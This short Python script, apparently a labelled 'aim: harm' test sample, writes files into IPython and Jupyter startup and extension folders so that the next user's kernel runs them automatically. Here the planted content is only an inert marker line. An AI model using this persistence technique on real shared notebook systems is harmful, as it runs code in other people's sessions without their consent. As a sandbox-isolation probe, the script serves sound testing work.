# Plants a start-up file for IPython and Jupyter, which the next learner's kernel would run.
# aim: harm
# %% first
import os
import pathlib
import pwd

homes = {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}
folders = [f"{home}/.ipython" for home in homes] + [os.environ.get("IPYTHONDIR", "ipython")]
for folder in folders:
    for path in ("profile_default/startup/00-planted.py", "extensions/planted.py"):
        target = pathlib.Path(folder, path)
        try:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text("planted = True\n")
            print("wrote", target)
        except OSError as error:
            print(error)
